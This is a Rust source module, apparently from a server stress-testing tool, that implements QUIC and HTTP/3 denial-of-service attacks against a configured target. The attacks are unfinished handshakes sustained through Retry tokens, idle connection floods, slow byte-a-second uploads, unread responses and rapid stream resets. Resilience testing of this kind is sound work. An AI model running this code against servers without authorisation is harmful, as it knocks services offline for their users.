//! Attackers over QUIC: handshakes that never end, connections without a request, slow uploads, responses that are not read,
//! resets.

use super::{
    BYTE, CONNECTIONS, FROM, SMALL, STREAMS, Shared, TICK, UNREAD, UPLOAD, due,
    wire::{self, Ask},
};
use crate::client::tls;
use anyhow::{Context as _, Result};
use bytes::BytesMut;
use quinn::{ClientConfig, Connection, Endpoint, IdleTimeout, TransportConfig, VarInt};
use quinn_proto::{ConnectionHandle, DatagramEvent, EndpointConfig, EndpointEvent};
use std::{
    collections::VecDeque,
    net::Ipv4Addr,
    rc::Rc,
    sync::Arc,
    time::{Duration, Instant},
};
use tokio::{
    net::UdpSocket,
    task::{JoinSet, spawn_local},
    time::{sleep, timeout},
};

/// Handshakes a second that never end.
pub(super) const HANDSHAKE_RATE: u32 = 500;
/// Connections without a request: so many a second, and at most.
pub(super) const IDLE_RATE: u32 = 50;
pub(super) const IDLE: u64 = 1_000;
/// Unfinished handshakes that wait for the server's Retry.
const WAITING: usize = 2_048;
/// The largest datagram that is looked at.
const DATAGRAM: usize = 2_048; // bytes
/// Of a Retry's first byte: a long header, and its type (RFC 9000 §17.2.5).
const RETRY: (u8, u8) = (0xf0, 0xf0);
/// What is offered of windows to responses that are not read, a stream and a connection.
const STREAM_WINDOW: u32 = 256 << 10; // bytes
const CONNECTION_WINDOW: u32 = 64 << 20; // bytes
const KEEP_ALIVE: Duration = Duration::from_secs(3);
const IDLE_TIMEOUT: u32 = 30_000; // milliseconds
/// For a connection.
const CONNECT: Duration = Duration::from_secs(10);
/// H3_REQUEST_CANCELLED.
const CANCELLED: VarInt = VarInt::from_u32(0x10c);

/// A connection's configuration.
pub(super) fn config(configs: &mut tls::Configs, keep_alive: Option<Duration>) -> Result<ClientConfig> {
    let mut transport = TransportConfig::default();
    transport
        .stream_receive_window(STREAM_WINDOW.into())
        .receive_window(CONNECTION_WINDOW.into())
        .keep_alive_interval(keep_alive)
        .max_idle_timeout(Some(IdleTimeout::from(VarInt::from_u32(IDLE_TIMEOUT))));
    let mut config = ClientConfig::new(configs.quic()?);
    config.transport_config(Arc::new(transport));
    Ok(config)
}

/// A socket of an address.
pub(super) fn endpoint(from: Ipv4Addr) -> Result<Endpoint> {
    Ok(Endpoint::client((from, 0).into())?)
}

/// Opens an attacker's connection, with a socket of its own.
async fn connect(shared: &Shared) -> Result<(Endpoint, Connection)> {
    let config = config(&mut shared.tls.borrow_mut(), Some(KEEP_ALIVE))?;
    let endpoint = endpoint(FROM)?;
    let connecting = endpoint.connect_with(config, shared.target.address, tls::NAME)?;
    let connection = timeout(CONNECT, connecting).await.context("no connection in time")??;
    shared.count(|tally| tally.connections += 1);
    Ok((endpoint, connection))
}

/// The same, with the control stream that HTTP/3 requires. Streams end when they are dropped.
async fn connect_h3(shared: &Shared) -> Result<(Endpoint, Connection, quinn::SendStream)> {
    let (endpoint, connection) = connect(shared).await?;
    let mut control = connection.open_uni().await?;
    control.write_all(&wire::H3_CONTROL).await?;
    Ok((endpoint, connection, control))
}

/// Handshakes that validate their address after a Retry, and never end.
pub(super) struct Unfinished {
    endpoint: quinn_proto::Endpoint,
    config: ClientConfig,
    socket: std::net::UdpSocket,
    /// The oldest first.
    waiting: VecDeque<(ConnectionHandle, quinn_proto::Connection)>,
}

impl Unfinished {
    pub(super) fn new(shared: &Shared) -> Result<Self> {
        let socket = std::net::UdpSocket::bind((FROM, 0))?;
        socket.set_nonblocking(true)?;
        Ok(Self {
            endpoint: quinn_proto::Endpoint::new(Arc::new(EndpointConfig::default()), None, true, None),
            config: config(&mut shared.tls.borrow_mut(), None)?,
            socket,
            waiting: VecDeque::new(),
        })
    }

    /// Begins them at a rate until the time is over.
    pub(super) async fn run(mut self, shared: Rc<Shared>) {
        let Ok(socket) = self.socket.try_clone().and_then(UdpSocket::from_std) else { return };
        let (began, mut begun) = (Instant::now(), 0);
        while !shared.is_over() {
            while begun < due(HANDSHAKE_RATE, began.elapsed()) {
                begun += 1;
                // A socket that is full is tried again in a moment.
                if self.begin(&socket, &shared).is_ok() {
                    shared.count(|tally| tally.connections += 1);
                }
            }
            self.answer(&socket, &shared);
            sleep(TICK).await;
        }
    }

    /// Sends a client's first flight.
    fn begin(&mut self, socket: &UdpSocket, shared: &Shared) -> Result<()> {
        let (handle, mut connection) =
            self.endpoint.connect(Instant::now(), self.config.clone(), shared.target.address, tls::NAME)?;
        flush(&mut connection, socket, shared);
        self.waiting.push_back((handle, connection));
        if self.waiting.len() > WAITING
            && let Some((oldest, _)) = self.waiting.pop_front()
        {
            self.endpoint.handle_event(oldest, EndpointEvent::drained());
        }
        Ok(())
    }

    /// Answers each Retry with the token that it brings, and nothing else.
    fn answer(&mut self, socket: &UdpSocket, shared: &Shared) {
        let (mut datagram, mut out) = ([0; DATAGRAM], Vec::new());
        while let Ok(length) = socket.try_recv(&mut datagram) {
            let Some(bytes) = datagram.get(..length) else { continue };
            if bytes.first().is_none_or(|first| first & RETRY.0 != RETRY.1) {
                continue;
            }
            let from = shared.target.address;
            let event = self.endpoint.handle(Instant::now(), from, None, None, BytesMut::from(bytes), &mut out);
            if let Some(DatagramEvent::ConnectionEvent(handle, event)) = event
                && let Some((_, connection)) = self.waiting.iter_mut().find(|(own, _)| *own == handle)
            {
                connection.handle_event(event);
                flush(connection, socket, shared);
            }
        }
    }
}

/// Sends what a connection has to say.
fn flush(connection: &mut quinn_proto::Connection, socket: &UdpSocket, shared: &Shared) {
    let mut datagram = Vec::new();
    while let Some(transmit) = connection.poll_transmit(Instant::now(), 1, &mut datagram) {
        let bytes = datagram.get(..transmit.size).unwrap_or_default();
        // Lost as on the way.
        let _ = socket.try_send_to(bytes, shared.target.address);
        datagram.clear();
    }
}

/// Opens connections without a request, at a rate; each stays.
pub(super) async fn idle(shared: Rc<Shared>) {
    let (began, mut opened) = (Instant::now(), 0);
    while !shared.is_over() {
        while opened < due(IDLE_RATE, began.elapsed()).min(IDLE) {
            opened += 1;
            spawn_local(Rc::clone(&shared).again_and_again(async |shared: Rc<Shared>| {
                let (_endpoint, connection) = connect(&shared).await?;
                connection.closed().await;
                Ok(())
            }));
        }
        sleep(TICK).await;
    }
}

/// As many uploads as a connection may have, of a byte a second each. One that ends is followed by another.
pub(super) async fn upload(shared: Rc<Shared>) -> Result<()> {
    on_each_stream(shared, async |connection: Connection, shared: Rc<Shared>| {
        let (mut send, _receive) = connection.open_bi().await?;
        shared.count(|tally| tally.requests += 1);
        send.write_all(&wire::h3_headers(Ask::Post(UPLOAD))).await?;
        loop {
            send.write_all(&wire::h3_data(b"a")).await?;
            // Stopped: the server has had enough of it.
            if timeout(BYTE, send.stopped()).await.is_ok() {
                return Ok(());
            }
        }
    })
    .await
}

/// As many responses as a connection may have, none of which is read. One that is reset is followed by another.
pub(super) async fn unread(shared: Rc<Shared>) -> Result<()> {
    on_each_stream(shared, async |connection: Connection, shared: Rc<Shared>| {
        let (mut send, mut receive) = connection.open_bi().await?;
        shared.count(|tally| tally.requests += 1);
        send.write_all(&wire::h3_headers(Ask::Get(UNREAD))).await?;
        send.finish()?;
        receive.received_reset().await?;
        Ok(())
    })
    .await
}

/// Has the same done on each stream of a connection again and again, until the connection ends.
async fn on_each_stream<F>(
    shared: Rc<Shared>,
    stream: impl Fn(Connection, Rc<Shared>) -> F + Copy + 'static,
) -> Result<()>
where
    F: Future<Output = Result<()>> + 'static,
{
    let (_endpoint, connection, _control) = connect_h3(&shared).await?;
    let mut tasks = JoinSet::new();
    for _ in 0..STREAMS {
        let (connection, shared) = (connection.clone(), Rc::clone(&shared));
        tasks.spawn_local(async move {
            while connection.close_reason().is_none() {
                let _ = stream(connection.clone(), Rc::clone(&shared)).await;
                sleep(TICK).await;
            }
        });
    }
    connection.closed().await;
    Ok(())
}

/// Requests that are reset as soon as they are sent.
pub(super) async fn resets(shared: Rc<Shared>) -> Result<()> {
    let (_endpoint, connection, _control) = connect_h3(&shared).await?;
    let rate = super::tcp::RESET_RATE / u32::try_from(CONNECTIONS)?;
    let (began, mut sent) = (Instant::now(), 0);
    let request = wire::h3_headers(Ask::Get(SMALL));
    loop {
        while sent < due(rate, began.elapsed()) {
            let (mut send, mut receive) = connection.open_bi().await?;
            send.write_all(&request).await?;
            send.reset(CANCELLED)?;
            receive.stop(CANCELLED)?;
            sent += 1;
            shared.count(|tally| tally.requests += 1);
        }
        sleep(TICK).await;
    }
}
